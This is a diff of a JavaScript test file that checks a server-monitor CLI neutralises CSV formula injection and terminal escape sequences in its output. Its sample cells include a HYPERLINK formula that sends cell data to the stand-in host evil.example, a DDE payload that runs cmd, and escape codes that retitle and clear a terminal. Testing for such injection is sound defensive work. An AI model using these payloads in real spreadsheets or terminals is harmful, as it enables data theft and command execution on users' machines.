@@ -13,7 +13,7 @@ const KEY = 'csv-output-key-0123456789';
 /** Cells a spreadsheet would run (OWASP CSV injection), and a terminal escape sequence. */
 const TITLES = [
   '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(A1:A2)',
   '\tTabbed',
@@ -60,6 +60,7 @@ describeEachBackend('imported CSV cells on the way out', (backend) => {
 
     const human = await runCli(['servermonitor:servers', '--search', 'formula-'], env());
     expect(human.code).to.equal(0);
+    // eslint-disable-next-line no-control-regex
     expect(human.stdout).not.to.match(/[\x00-\x08\x0b-\x1f\x7f]/);
     expect(human.stdout).to.contain('\\x1b]0;owned\\x07\\x1b[2JCleared');
     expect(human.stdout).to.contain('\\x0dCarriage');
